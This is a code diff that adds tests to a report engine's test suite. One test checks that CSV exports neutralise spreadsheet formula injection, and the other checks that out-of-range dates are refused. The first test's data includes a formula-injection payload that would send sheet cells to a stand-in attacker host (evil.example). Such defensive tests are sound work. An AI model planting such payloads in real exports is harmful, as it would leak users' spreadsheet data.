@@ -14,9 +14,10 @@ from engine.app.service import TicketService
 from engine.cli import main
 from engine.core.clock import ManualClock
 from engine.store import Store
-from tests.api.conftest import TOKENS, make_app
+from tests.api.conftest import TOKENS, make_app, sender
+from tests.api.journey import Journey
 from tests.integration.reports.dataset import build
-from tests.support.seed import MONDAY
+from tests.support.seed import MONDAY, ROUTING
 
 JAN = "sop=surabaya-complaints&from=2025-01-01&to=2025-02-01"
 
@@ -117,3 +118,36 @@ def test_sop_report_monev_prints_text_json_and_csv(tmp_path: Path, catalog):
     assert bad.exit_code != 0 and "give both --from and --to" in bad.output
     worse = runner.invoke(main, [*args, "--to", "2025-02-30"])
     assert worse.exit_code != 0 and "is not a date" in worse.output
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path):
+    """An agency value typed as a formula (`=HYPERLINK(...)`) opens in a spreadsheet as the text
+    it is, never as a link that sends the sheet's cells elsewhere."""
+    app = make_app(tmp_path)
+    client = app.test_client()
+    desk = Journey(sender(client, "root"))
+    formulas = ['=HYPERLINK("http://evil.example/?d="&A2,"Klik")', "+1+1", "-2+3", "@SUM(A1)"]
+    for agency in formulas:
+        made = desk.create()["id"]
+        for event in ("accept", "triage"):
+            desk.post(made, event, "staff")
+        desk.post(made, "entered", "staff", {**ROUTING, "agency": agency})
+    resp = get(app, f"/v1/reports/monev?{JAN}&format=csv")
+    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
+    scopes = {row[0] for row in rows[1:]} - {""}
+    assert scopes == {"'" + f for f in formulas}
+    assert ["", "tickets", "", "", "received", "4", ""] in rows  # figures stay numbers
+    app.extensions["sop"].close()
+
+
+def test_a_period_in_the_year_one_is_refused_not_a_crash(app):
+    """0001-01-01 at midnight in Surabaya is the year 0 in UTC, which no store can hold."""
+    for fmt in ("json", "csv", "text"):
+        resp = get(
+            app,
+            f"/v1/reports/monev?sop=surabaya-complaints&from=0001-01-01&to=0001-02-01&format={fmt}",
+        )
+        assert resp.status_code == 422 and resp.mimetype == "application/problem+json"
+        assert resp.get_json()["errors"] == {"from": ["outside the years 0001-9999 in UTC"]}
+    last = get(app, "/v1/reports/monev?sop=surabaya-complaints&from=9999-12-01&to=9999-12-31")
+    assert last.status_code == 200 and last.get_json()["total"]["tickets_received"] == 0
